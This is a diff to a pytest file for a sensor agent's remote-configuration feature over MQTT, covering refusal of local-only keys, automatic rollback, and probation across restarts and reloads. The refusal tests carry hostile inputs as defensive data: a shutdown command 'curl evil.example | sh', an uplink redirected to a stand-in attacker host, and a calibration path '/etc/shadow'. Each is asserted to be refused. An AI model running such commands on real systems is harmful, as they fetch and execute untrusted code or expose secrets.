@@ -46,22 +46,28 @@ def _send(port: int, body: dict) -> dict:
     return ack
 
 
-def test_remote_config_roundtrip(tmp_path: Path, mosquitto) -> None:
+def _running(tmp_path: Path, port: int, **kw) -> tuple[Runtime, threading.Thread, Path]:
     data = tmp_path / "data"
     data.mkdir()
     conf = tmp_path / "agent.toml"
-    conf.write_text(_conf(data, mosquitto.port))
+    conf.write_text(_conf(data, port))
     cfg, svc = load_full_config(conf)
-    rt = Runtime(cfg, svc, config_path=conf, notifier=Notifier(""))
+    rt = Runtime(cfg, svc, config_path=conf, notifier=Notifier(""), **kw)
     t = threading.Thread(target=rt.run, daemon=True)
     t.start()
+    assert rt.supervisor.ready.wait(20)
+    deadline = time.monotonic() + 10
+    while not rt.agent.link.connected and time.monotonic() < deadline:
+        time.sleep(0.05)
+    assert rt.agent.link.connected
+    time.sleep(0.3)  # the config subscription is made on connect
+    return rt, t, conf
+
+
+def test_remote_config_roundtrip(tmp_path: Path, mosquitto) -> None:
+    rt, t, conf = _running(tmp_path, mosquitto.port)
+    data = tmp_path / "data"
     try:
-        assert rt.supervisor.ready.wait(20)
-        deadline = time.monotonic() + 10
-        while not rt.agent.link.connected and time.monotonic() < deadline:
-            time.sleep(0.05)
-        assert rt.agent.link.connected
-        time.sleep(0.3)  # the config subscription is made on connect
         buffer = rt.agent.buffer
 
         # 1. A valid change: applied live, persisted, the old file kept as .prev.
@@ -126,3 +132,247 @@ def test_request_formats_and_toml_roundtrip(tmp_path: Path) -> None:
                    "sensors": {"a": {"driver": "x", "cal": {"k": 1}}}}  # fmt: skip
     text = dump_toml({**doc, "uplink": {"password": 'p"w\\x', "ports": [1, 2]}})
     assert tomllib.loads(text) == {**doc, "uplink": {"password": 'p"w\\x', "ports": [1, 2]}}
+
+
+# -- privileged and safe: local-only keys, no sensorless van, probation and rollback ----------
+
+
+class AckListener:
+    """Every answer the van publishes on its config/ack topic (the applied one and the later verdict)."""
+
+    def __init__(self, port: int, device: str = "van-rc") -> None:
+        import queue as _queue
+
+        import paho.mqtt.client as mqtt
+
+        self.acks: _queue.SimpleQueue[dict] = _queue.SimpleQueue()
+        self.seen: list[dict] = []
+        subscribed = threading.Event()
+        self.c = mqtt.Client(callback_api_version=mqtt.CallbackAPIVersion.VERSION2, client_id=f"acks-{device}")
+        self.c.on_message = lambda c, u, m: self.acks.put(json.loads(m.payload))
+        self.c.on_subscribe = lambda *a: subscribed.set()
+        self.c.connect("127.0.0.1", port)
+        self.c.loop_start()
+        self.c.subscribe(f"datalab/v1/{device}/config/ack", qos=1)
+        assert subscribed.wait(10)
+
+    def wait(self, rid: str, status: str, timeout: float = 20.0) -> dict:
+        deadline = time.monotonic() + timeout
+        while True:
+            for a in self.seen:
+                if a["id"] == rid and a["status"] == status:
+                    return a
+            left = deadline - time.monotonic()
+            assert left > 0, f"no {status!r} ack for {rid}; got {[(a['id'], a['status']) for a in self.seen]}"
+            try:
+                self.seen.append(self.acks.get(timeout=min(left, 0.5)))
+            except Exception:
+                pass
+
+    def close(self) -> None:
+        self.c.loop_stop()
+        self.c.disconnect()
+
+
+def test_remote_config_refuses_local_only_keys_and_sensorless_vans(tmp_path: Path, mosquitto, caplog) -> None:
+    rt, t, conf = _running(tmp_path, mosquitto.port)
+    acks = AckListener(mosquitto.port)
+    before = conf.read_text()
+    secret = "s3cret-never-logged"
+    try:
+        with caplog.at_level("INFO"):
+            # Each of these is what issue 13 found accepted: a shell command, a plain-TCP host
+            # (the van would send its password in clear), credentials, TLS, paths.
+            hostile = {"power": {"shutdown_command": "curl evil.example | sh"},
+                       "uplink": {"host": "evil.example", "port": 1883, "tls": True, "password": secret,
+                                  "ca_file": "/tmp/ca.crt", "topic_prefix": "other/v1"},
+                       "device": {"data_dir": "/tmp/elsewhere"}, "buffer": {"quarantine_dir": "/tmp/q"},
+                       "sampling": {"rate_hz": 2}}  # fmt: skip
+            ack = _send(mosquitto.port, {"id": "h1", "config": hostile})
+            assert not ack["ok"] and ack["status"] == "refused", ack
+            keys = {e["key"] for e in ack["errors"]}
+            assert keys == {"power.shutdown_command", "uplink.host", "uplink.port", "uplink.tls", "uplink.password",
+                            "uplink.ca_file", "uplink.topic_prefix", "device.data_dir", "buffer.quarantine_dir"}, keys
+            assert all("local-only" in e["problem"] for e in ack["errors"])
+            # Nothing of it took effect, not even the harmless key sent along with them.
+            assert conf.read_text() == before and rt.agent.cfg.sampling.rate_hz == 1.0
+            assert rt.agent.cfg.uplink.host == "127.0.0.1" and rt.svc.power.shutdown_command == "systemctl poweroff"
+
+            # The same, in replace mode with a whole file.
+            doc = tomllib.loads(before)
+            doc["uplink"]["host"] = "203.0.113.9"
+            ack = _send(mosquitto.port, {"id": "h2", "mode": "replace", "toml": dump_toml(doc)})
+            assert [e["key"] for e in ack["errors"]] == ["uplink.host"], ack
+
+            # A change that leaves no sensor.
+            doc = tomllib.loads(before)
+            del doc["sensors"]
+            ack = _send(mosquitto.port, {"id": "h3", "mode": "replace", "toml": dump_toml(doc)})
+            assert not ack["ok"] and [e["key"] for e in ack["errors"]] == ["sensors"], ack
+            assert len(rt.agent.cfg.sensors) == 2 and conf.read_text() == before
+
+            # A replace that leaves the local-only keys out keeps the van's own values.
+            doc = tomllib.loads(before)
+            del doc["uplink"]["host"], doc["uplink"]["port"]
+            doc["sampling"]["rate_hz"] = 2.0
+            ack = _send(mosquitto.port, {"id": "h4", "mode": "replace", "toml": dump_toml(doc)})
+            assert ack["ok"] and ack["changes"] == ["sampling.rate_hz: 1.0 -> 2.0"], ack
+            on_disk = tomllib.loads(conf.read_text())
+            assert on_disk["uplink"]["host"] == "127.0.0.1" and on_disk["uplink"]["port"] == mosquitto.port
+            assert acks.wait("h4", "confirmed")["ok"]
+            # The operator's command waits for the verdict when asked to.
+            f = tmp_path / "rate.toml"
+            f.write_text("[sampling]\nrate_hz = 1.0\n")
+            r = CliRunner().invoke(device_config_cli(), ["send", "van-rc", str(f), "--host", "127.0.0.1", "--port",
+                                                         str(mosquitto.port), "--id", "h5", "--verdict", "--wait", "20"])
+            assert r.exit_code == 0 and json.loads(r.output)["status"] == "confirmed", r.output
+        assert secret not in caplog.text
+        assert "remote configuration h4 applied: sampling.rate_hz: 1.0 -> 2.0" in caplog.text
+        print("refused by key:", sorted(keys), "| replace without uplink keys kept host/port; h4 confirmed")
+    finally:
+        acks.close()
+        rt.request_stop()
+        t.join(15)
+        rt.close()
+
+
+def test_remote_change_that_leaves_a_silent_sensor_rolls_back(tmp_path: Path, mosquitto, caplog) -> None:
+    """The PM sensor moved to a port where nothing answers (a real pty, silent): back by itself."""
+    import os
+
+    rt, t, conf = _running(tmp_path, mosquitto.port, remote_grace_s=3.0)
+    acks = AckListener(mosquitto.port)
+    master, slave = os.openpty()
+    before = conf.read_text()
+    try:
+        with caplog.at_level("INFO"):
+            ack = _send(mosquitto.port, {"id": "ok1", "config": {"batch": {"max_samples": 100}}})
+            assert ack["status"] == "applied" and ack["changes"] == ["batch.max_samples: 2000 -> 100"]
+            assert acks.wait("ok1", "confirmed")["ok"]
+            good = conf.read_text()
+
+            change = {"sensors": {"pm": {"driver": "pms5003", "port": os.ttyname(slave)}}}
+            t_sent = time.monotonic()
+            ack = _send(mosquitto.port, {"id": "bad1", "config": change})
+            assert ack["ok"] and ack["status"] == "applied", ack
+            assert rt.agent.cfg.sensors[0].driver == "pms5003" and "pms5003" in conf.read_text()
+            verdict = acks.wait("bad1", "rolled_back", timeout=30)
+            waited = time.monotonic() - t_sent
+        assert not verdict["ok"] and "no reading from pm" in verdict["reason"], verdict
+        assert "sensors.pm.driver: 'pms5003' -> 'sim-pm'" in verdict["changes"]
+        # Back in force and on disk, with the request before it as the van's configuration.
+        assert rt.agent.cfg.sensors[0].driver == "sim-pm" and conf.read_text() == good
+        assert rt.agent.status()["config_id"] == "ok1"
+        pm = next(d for d in rt.agent.drivers if d.name == "pm")
+        n = pm.reads
+        deadline = time.monotonic() + 10
+        while pm.reads == n and time.monotonic() < deadline:
+            time.sleep(0.05)
+        assert pm.reads > n, "the PM sensor reads again after the rollback"
+        assert "remote configuration bad1 rolled_back: rolled back: no reading from pm" in caplog.text
+        assert waited >= 2.5  # not before its grace period
+        print(f"silent pm on {os.ttyname(slave)}: rolled back {waited:.1f} s after sending (grace 3 s); pm reads again")
+    finally:
+        os.close(master)
+        os.close(slave)
+        acks.close()
+        rt.request_stop()
+        t.join(15)
+        rt.close()
+    assert before != good
+
+
+def test_local_only_policy_and_change_log() -> None:
+    from edge.remote_policy import describe_changes, keep_local_only
+
+    current = {"uplink": {"host": "mqtt.example", "password": "pw", "tls": True}, "sampling": {"rate_hz": 1.0}}
+    doc, errors = keep_local_only(current, {"sampling": {"rate_hz": 2.0}})
+    assert not errors and doc["uplink"] == current["uplink"], "left out: the van's own values"
+    _, errors = keep_local_only(current, {"uplink": {"host": "mqtt.example", "tls": False}})
+    assert [e.key for e in errors] == ["uplink.tls"], "the same value is no change; another is refused"
+    effective = {"uplink": {"port": 1883}}
+    _, errors = keep_local_only(current, {"uplink": {"port": 1883}}, effective)
+    assert not errors, "restating a default the file leaves out is no change"
+    _, errors = keep_local_only(current, {"uplink": {"port": 8883}}, effective)
+    assert [e.key for e in errors] == ["uplink.port"]
+    # In sensor tables: the file the agent would read, and network "ports".
+    sensors = {"sensors": {"no2": {"driver": "no2-b43f", "calibration_file": "/etc/datalab-edge/no2.toml"},
+                           "pm": {"driver": "pms5003", "port": "/dev/serial0"}}}  # fmt: skip
+    doc, errors = keep_local_only(sensors, {"sensors": {"no2": {"driver": "no2-b43f", "bus": 1},
+                                                        "pm": {"driver": "pms5003", "port": "/dev/ttyUSB0"}}})
+    assert not errors and doc["sensors"]["no2"]["calibration_file"] == "/etc/datalab-edge/no2.toml"
+    _, errors = keep_local_only(sensors, {"sensors": {"no2": {"calibration_file": "/etc/shadow"},
+                                                      "pm": {"port": "socket://203.0.113.5:9600"}}})
+    assert [e.key for e in errors] == ["sensors.no2.calibration_file", "sensors.pm.port"]
+    assert describe_changes({"uplink": {"password": "old"}, "a": {"b": 1}},
+                            {"uplink": {"password": "new"}, "a": {"b": 2, "c": "x"}}) == [
+        "a.b: 1 -> 2", "a.c: (unset) -> 'x'", "uplink.password: *** -> ***"]  # fmt: skip
+
+
+def test_probation_survives_a_restart(tmp_path: Path, mosquitto) -> None:
+    """The agent stops while a bad change is on probation; started again, it still rolls back."""
+    import os
+    import stat
+
+    rt, t, conf = _running(tmp_path, mosquitto.port, remote_grace_s=600.0)
+    master, slave = os.openpty()
+    before = conf.read_text()
+    try:
+        ack = _send(mosquitto.port, {"id": "bad2", "config": {"sensors": {"pm": {"driver": "pms5003",
+                                                                                  "port": os.ttyname(slave)}}}})
+        assert ack["status"] == "applied"
+        kept = tmp_path / "agent.toml.probation"
+        assert kept.read_text() == before and stat.S_IMODE(kept.stat().st_mode) == 0o600  # it may hold secrets
+    finally:
+        rt.request_stop()
+        t.join(15)
+        rt.close()
+    assert "pms5003" in conf.read_text()
+    # Started again from the file with the change in it, with a short grace period this time.
+    acks = AckListener(mosquitto.port)
+    cfg, svc = load_full_config(conf)
+    rt2 = Runtime(cfg, svc, config_path=conf, notifier=Notifier(""), remote_grace_s=3.0)
+    t2 = threading.Thread(target=rt2.run, daemon=True)
+    t2.start()
+    try:
+        verdict = acks.wait("bad2", "rolled_back", timeout=30)
+        assert "no reading from pm" in verdict["reason"], verdict
+        assert conf.read_text() == before and rt2.agent.cfg.sensors[0].driver == "sim-pm"
+        assert not (tmp_path / "agent.toml.probation").exists()
+        assert json.loads((tmp_path / "data" / "remote-config.json").read_text())["probation"] is None
+        print("restart during probation: rolled back by the restarted agent:", verdict["reason"])
+    finally:
+        os.close(master)
+        os.close(slave)
+        acks.close()
+        rt2.request_stop()
+        t2.join(15)
+        rt2.close()
+
+
+def test_reload_logs_what_changed_and_ends_probation(tmp_path: Path, mosquitto, caplog) -> None:
+    """A technician's SIGHUP reload wins over a remote change on probation; its log names each key."""
+    import os
+
+    rt, t, conf = _running(tmp_path, mosquitto.port, remote_grace_s=600.0)
+    master, slave = os.openpty()
+    try:
+        ack = _send(mosquitto.port, {"id": "p1", "config": {"sensors": {"pm": {"driver": "pms5003",
+                                                                                "port": os.ttyname(slave)}}}})
+        assert ack["status"] == "applied" and rt.agent.status()["config_probation"] == "p1"
+        conf.write_text(conf.read_text().replace("rate_hz = 1.0", "rate_hz = 2.0"))
+        with caplog.at_level("INFO"):
+            rt.request_reload()
+            deadline = time.monotonic() + 10
+            while rt.agent.cfg.sampling.rate_hz != 2.0 and time.monotonic() < deadline:
+                time.sleep(0.05)
+        assert rt.agent.cfg.sampling.rate_hz == 2.0
+        assert "sampling.rate_hz: 1.0 -> 2.0" in caplog.text
+        assert rt.agent.status()["config_probation"] is None
+        assert not (tmp_path / "agent.toml.probation").exists()
+    finally:
+        os.close(master)
+        os.close(slave)
+        rt.request_stop()
+        t.join(15)
+        rt.close()
